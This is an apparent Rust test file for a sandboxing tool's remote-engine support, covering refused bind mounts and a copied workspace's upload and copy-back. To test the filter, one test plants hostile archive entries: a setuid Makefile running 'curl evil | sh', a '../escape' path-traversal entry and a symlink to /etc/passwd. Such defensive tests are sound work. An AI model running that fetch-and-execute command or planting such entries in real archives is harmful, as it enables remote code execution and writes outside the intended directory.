//! The workspace on an engine on another machine (SPEC §6.1 "workspace"):
//! a bind mount there names that machine's path, so it is refused before
//! anything is created; `sandbox_workspace` `copy` uploads the working
//! directory at launch and copies it back, through the filter of
//! `workspace_copy`, at `down`. The engine is the fake: nothing connects.

mod common;

use common::*;
use odek_core::engine::Op;
use odek_core::FailureClass;

const REMOTE: &str = "tcp://10.0.0.5:2375";

fn remote() -> Setup {
    let endpoint = odek_core::engine::Endpoint::named(REMOTE, "docker_host").expect("valid");
    Setup::with_fake(shop_fake().with_endpoint(endpoint)).image(IMAGE)
}

fn copy(s: Setup) -> Setup {
    s.flag("sandbox_workspace", "--sandbox-workspace", |l| {
        l.sandbox_workspace = Some("copy".into())
    })
}

/// An archive entry written as the bytes say (the tar crate's builder
/// refuses `..`; a hostile engine does not).
fn raw(b: &mut tar::Builder<Vec<u8>>, path: &str, mode: u32, data: &[u8]) {
    let mut h = tar::Header::new_old();
    h.as_old_mut().name[..path.len()].copy_from_slice(path.as_bytes());
    h.set_entry_type(tar::EntryType::Regular);
    h.set_mode(mode);
    h.set_size(data.len() as u64);
    h.set_cksum();
    b.append(&h, data).expect("append");
}

#[tokio::test]
async fn a_remote_engine_refuses_the_bind_mounted_workspace_before_anything_is_created() {
    let s = remote();
    let err = s
        .resolve()
        .await
        .expect_err("a bind mount on another machine");
    assert_refused_before_create(&s, &err, FailureClass::Config, "runs on another machine");
    let msg = err.to_string();
    assert!(
        msg.contains("run odek on the engine's machine")
            && msg.contains("--sandbox-workspace copy")
            && msg.contains(&format!("a bind mount of {}", s.workdir.display())),
        "{msg}"
    );
    // Only the version and endpoint questions were asked: no container,
    // no network, no image pulled.
    assert!(s.fake.calls_of(Op::CreateContainer).is_empty());
    assert!(s.fake.calls_of(Op::PullImage).is_empty());
}

/// A plan made for a local engine (it crosses the C ABI as JSON) is refused
/// by a client whose engine is remote, at launch, before anything is made.
#[tokio::test]
async fn a_bind_plan_launched_on_a_remote_engine_is_refused_at_launch() {
    let local = Setup::new();
    let plan = local.resolve().await.expect("resolve on a local engine");
    let s = remote();
    let err = s.launch(&plan).await.expect_err("refused at launch");
    assert_refused_before_create(&s, &err, FailureClass::Config, "runs on another machine");
}

/// The project cannot choose the copy (it is the operator's, SPEC §6.1
/// "workspace"): its value is ignored, said, and the bind refused.
#[tokio::test]
async fn a_project_cannot_choose_the_copied_workspace() {
    let s = remote().project_config(r#"{"sandbox_workspace": "copy"}"#);
    let err = s.resolve().await.expect_err("still a bind mount");
    assert_refused_before_create(&s, &err, FailureClass::Config, "runs on another machine");
    assert!(
        s.reporter.warnings().iter().any(|w| w.message.contains(
            "\"sandbox_workspace\": \"copy\" is ignored; a project config cannot choose"
        )),
        "{:?}",
        s.reporter.warnings()
    );
}

/// Copy: nothing is bind-mounted at /workspace; the working directory is
/// uploaded before start, owned by the command user; `down` copies back
/// what changed, refuses what must not come back, and names a changed file
/// host tools run as a bind mount's write would be.
#[tokio::test]
async fn a_copied_workspace_round_trips_a_file() {
    let s = copy(remote());
    std::fs::write(s.workdir.join("hello.txt"), b"from the host").expect("write");
    std::os::unix::fs::symlink("/etc/passwd", s.workdir.join("passwd")).expect("symlink");
    let plan = s.resolve().await.expect("resolve: copy is the fix");
    assert_eq!(plan.workspace, odek_core::config::WorkspaceMode::Copy);
    let sb = s.launch(&plan).await.expect("launch");
    let id = sb.container_id.clone().expect("a container");
    // Uploaded before start.
    let ops: Vec<Op> = s
        .fake
        .calls()
        .iter()
        .filter(|c| !c.probe && matches!(c.op, Op::UploadArchive | Op::StartContainer))
        .map(|c| c.op)
        .collect();
    assert_eq!(ops, [Op::UploadArchive, Op::StartContainer]);
    let up = s.fake.archive(&id, "/").expect("uploaded to /");
    let mut ar = tar::Archive::new(up.as_slice());
    let mut seen = Vec::new();
    for e in ar.entries().expect("tar") {
        let mut e = e.expect("entry");
        let path = e.path().expect("path").display().to_string();
        let mut body = String::new();
        std::io::Read::read_to_string(&mut e, &mut body).expect("read");
        seen.push((path, body));
    }
    assert_eq!(
        seen,
        [
            ("workspace/".to_string(), String::new()),
            (
                "workspace/hello.txt".to_string(),
                "from the host".to_string()
            ),
        ],
        "the outside symlink stays behind"
    );
    assert!(
        s.reporter.warnings().iter().any(|w| w
            .message
            .contains("passwd: a symlink to /etc/passwd, outside the workspace")),
        "{:?}",
        s.reporter.warnings()
    );
    // What the sandbox left in /workspace, with a hostile entry.
    let mut b = tar::Builder::new(Vec::new());
    raw(
        &mut b,
        "workspace/hello.txt",
        0o644,
        b"changed in the sandbox",
    );
    raw(
        &mut b,
        "workspace/Makefile",
        0o4755,
        b"all:\n\tcurl evil | sh\n",
    );
    raw(&mut b, "workspace/../escape", 0o644, b"x");
    s.fake
        .put_archive(&id, "/workspace", b.into_inner().expect("tar"));
    let report = s.odek.close(&sb).await.expect("down");
    assert_eq!(
        std::fs::read_to_string(s.workdir.join("hello.txt")).expect("read"),
        "changed in the sandbox"
    );
    let copied = report.copied_back.clone().expect("copied back");
    assert_eq!(copied.written, ["hello.txt", "Makefile"]);
    assert_eq!(copied.skipped.len(), 1, "{:?}", copied.skipped);
    assert!(!s.root().join("escape").exists());
    let mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::metadata(s.workdir.join("Makefile"))
            .expect("meta")
            .permissions(),
    );
    assert_eq!(mode & 0o7777, 0o755, "no setuid bit comes back");
    // Named as a local sandbox's change would be.
    assert!(
        report.changed.iter().any(|c| c.path == "Makefile"),
        "{report:?}"
    );
    // The C ABI's close result (and so Python's and Go's) carries it.
    let doc =
        serde_json::to_value(odek_core::api::CloseResult::new(&sb.name, report)).expect("json");
    assert_eq!(
        doc["copied_back"]["written"],
        serde_json::json!(["hello.txt", "Makefile"]),
        "{doc}"
    );
    assert_eq!(
        doc["copied_back"]["skipped"][0]["path"], "../escape",
        "{doc}"
    );
    assert!(
        s.fake.containers().is_empty(),
        "removed after the copy-back"
    );
}

/// A copy-back the engine refuses keeps the container (nothing is lost)
/// and says why.
#[tokio::test]
async fn a_failed_copy_back_keeps_the_sandbox() {
    let s = copy(remote());
    let sb = s.up().await.expect("up");
    s.fake.fail(odek_core::engine::Fault::new(
        Op::DownloadArchive,
        1,
        odek_core::engine::EngineErrorKind::Rejected,
    ));
    let err = s.odek.close(&sb).await.expect_err("copy-back failed");
    assert!(err.to_string().contains("copy the workspace out"), "{err}");
    assert_eq!(s.fake.containers().len(), 1, "the sandbox is kept");
}

/// `sandbox_volumes` name host paths inside the working directory: on an
/// engine on another machine they are refused (SPEC §6.2.2), copied
/// workspace or not, before anything is created; a local plan with volumes
/// is refused at launch by a remote client too.
#[tokio::test]
async fn a_remote_engine_refuses_sandbox_volumes_before_anything_is_created() {
    let s = copy(remote());
    std::fs::create_dir_all(s.workdir.join("cache")).expect("mkdir");
    let s = s.user_config(r#"{"sandbox_volumes": ["./cache:/root/.cache:ro"]}"#);
    let err = s.resolve().await.expect_err("volumes on another machine");
    assert_refused_before_create(&s, &err, FailureClass::Config, "runs on another machine");
    let msg = err.to_string();
    assert!(
        msg.contains("sandbox_volumes mounts \"./cache:/root/.cache:ro\"")
            && msg.contains("remove sandbox_volumes for this engine"),
        "{msg}"
    );
    assert!(s.fake.calls_of(Op::CreateContainer).is_empty());

    let local = Setup::new();
    std::fs::create_dir_all(local.workdir.join("cache")).expect("mkdir");
    let local = local.user_config(r#"{"sandbox_volumes": ["./cache:/root/.cache:ro"]}"#);
    let mut plan = local.resolve().await.expect("resolve on a local engine");
    plan.workspace = odek_core::config::WorkspaceMode::Copy;
    plan.account = None;
    let s = remote();
    let err = s.launch(&plan).await.expect_err("refused at launch");
    assert_refused_before_create(&s, &err, FailureClass::Config, "sandbox_volumes mounts");
}

/// The operator's numeric `sandbox_user` on a remote engine applies without
/// an account: its passwd and group files would be bind-mounted from this
/// machine. Resolve drops it and says so; launch mounts nothing from
/// `$ODEK_HOME`; a plan that still carries one is refused at launch.
#[tokio::test]
async fn an_operator_uid_on_a_remote_engine_gets_no_account_and_says_so() {
    let endpoint = odek_core::engine::Endpoint::named(REMOTE, "docker_host").expect("valid");
    let fake = shop_fake().with_endpoint(endpoint);
    let spy = Spy::new(fake.clone());
    let s = copy(Setup::over(fake, spy.clone()).image(IMAGE)).flag(
        "sandbox_user",
        "--sandbox-user",
        |l| l.sandbox_user = Some("1000:1000".into()),
    );
    let plan = s.resolve().await.expect("resolve");
    assert_eq!(plan.user.as_deref(), Some("1000:1000"));
    assert!(plan.account.is_none(), "{:?}", plan.account);
    assert!(
        s.reporter
            .warnings()
            .iter()
            .any(|w| w.message.contains("sandbox_user 1000:1000 gets no account")),
        "{:?}",
        s.reporter.warnings()
    );
    s.launch(&plan).await.expect("launch");
    let spec = &spy.specs()[0];
    assert_eq!(spec.user.as_deref(), Some("1000:1000"));
    assert!(
        spec.binds.is_empty(),
        "nothing is bind-mounted from this machine: {:?}",
        spec.binds
    );

    let local = Setup::new().flag("sandbox_user", "--sandbox-user", |l| {
        l.sandbox_user = Some("1000:1000".into())
    });
    let mut plan = local.resolve().await.expect("resolve on a local engine");
    assert!(plan.account.is_some());
    plan.workspace = odek_core::config::WorkspaceMode::Copy;
    let s = remote();
    let err = s.launch(&plan).await.expect_err("refused at launch");
    assert_refused_before_create(&s, &err, FailureClass::Config, "carries an account");
}

/// Egress mode's proxy is odek's binary bind-mounted from this machine: on
/// an engine on another machine it is refused at resolve, naming the
/// fixes, before anything is created.
#[tokio::test]
async fn a_remote_engine_refuses_egress_mode_before_anything_is_created() {
    let s = copy(remote()).flag("sandbox_egress", "--sandbox-egress", |l| {
        l.sandbox_egress = Some(vec!["example.com".into()])
    });
    let err = s.resolve().await.expect_err("egress on another machine");
    assert_refused_before_create(&s, &err, FailureClass::Config, "runs on another machine");
    assert!(
        err.to_string()
            .contains("sandbox_egress needs odek's egress proxy"),
        "{err}"
    );
    assert!(s.fake.calls_of(Op::CreateContainer).is_empty());
}

/// A working directory replaced since launch (moved away, another put at
/// its path) is never written into: the copy-back is refused naming the
/// replacement, the new directory stays as it was, and the sandbox is kept.
#[tokio::test]
async fn a_copy_back_into_a_replaced_working_directory_is_refused() {
    let s = copy(remote());
    let sb = s.up().await.expect("up");
    let id = sb.container_id.clone().expect("a container");
    let mut b = tar::Builder::new(Vec::new());
    raw(&mut b, "workspace/planted.txt", 0o644, b"from the sandbox");
    s.fake
        .put_archive(&id, "/workspace", b.into_inner().expect("tar"));
    std::fs::rename(&s.workdir, s.root().join("moved")).expect("move away");
    std::fs::create_dir(&s.workdir).expect("another directory at the path");
    let err = s.odek.close(&sb).await.expect_err("replaced");
    assert!(
        err.to_string()
            .contains("is another directory than the one the sandbox was launched from"),
        "{err}"
    );
    assert!(!s.workdir.join("planted.txt").exists(), "nothing written");
    assert!(!s.root().join("moved/planted.txt").exists());
    assert_eq!(s.fake.containers(), [id], "the sandbox is kept");
}

/// TCP to loopback counts as this machine (the bind mount is allowed), but
/// a tunnel to another machine looks the same: when the kernel cannot
/// confirm what was mounted at /workspace (the fake's container has no
/// process here), the launch says so and names the copied workspace; with
/// a copied workspace nothing is bind-mounted and nothing is said.
#[tokio::test]
async fn a_loopback_engine_whose_mounts_cannot_be_read_back_may_be_a_tunnel() {
    let loopback = || {
        let endpoint = odek_core::engine::Endpoint::named("tcp://127.0.0.1:2375", "docker_host")
            .expect("valid");
        Setup::with_fake(shop_fake().with_endpoint(endpoint)).image(IMAGE)
    };
    let s = loopback();
    let plan = s.resolve().await.expect("a bind mount on loopback");
    s.launch(&plan).await.expect("launch");
    let said = |s: &Setup| {
        s.reporter.warnings().iter().any(|w| {
            w.message
                .contains("if that address is a tunnel to another machine")
        })
    };
    assert!(said(&s), "{:?}", s.reporter.warnings());
    let s = copy(loopback());
    let plan = s.resolve().await.expect("resolve");
    s.launch(&plan).await.expect("launch");
    assert!(!said(&s), "{:?}", s.reporter.warnings());
}

/// `odek sandbox copy-back` more than once: a file an earlier copy-back
/// wrote is not taken for a change on the host, so the sandbox's next
/// version comes back too; a file both sides already have the same is
/// neither written nor named.
#[tokio::test]
async fn copy_back_twice_brings_the_second_version_back() {
    let s = copy(remote());
    let sb = s.up().await.expect("up");
    let id = sb.container_id.clone().expect("a container");
    let put = |text: &[u8]| {
        let mut b = tar::Builder::new(Vec::new());
        raw(&mut b, "workspace/f.txt", 0o644, text);
        s.fake
            .put_archive(&id, "/workspace", b.into_inner().expect("tar"));
    };
    put(b"v1\n");
    let first = s.odek.copy_back(&sb).await.expect("first copy-back");
    assert_eq!(first.written, ["f.txt"]);
    put(b"v2\n");
    let second = s.odek.copy_back(&sb).await.expect("second copy-back");
    assert_eq!(second.written, ["f.txt"], "{:?}", second.skipped);
    assert!(second.skipped.is_empty(), "{:?}", second.skipped);
    assert_eq!(
        std::fs::read_to_string(s.workdir.join("f.txt")).expect("read"),
        "v2\n"
    );
    // Nothing changed since: the close writes nothing and names nothing.
    let report = s.odek.close(&sb).await.expect("down");
    let copied = report.copied_back.expect("copied back");
    assert!(
        copied.written.is_empty() && copied.skipped.is_empty(),
        "{copied:?}"
    );
}

/// `copy-back` of a sandbox whose workspace is bind-mounted is the
/// caller's mistake (class config), not Docker's refusal.
#[tokio::test]
async fn copy_back_of_a_bind_mounted_sandbox_is_a_usage_error() {
    let s = Setup::new();
    let sb = s.up().await.expect("up");
    let err = s
        .odek
        .copy_back(&sb)
        .await
        .expect_err("nothing to copy back");
    assert_eq!(err.class(), FailureClass::Config, "{err}");
    assert!(
        err.to_string()
            .contains("has its working directory bind-mounted"),
        "{err}"
    );
}
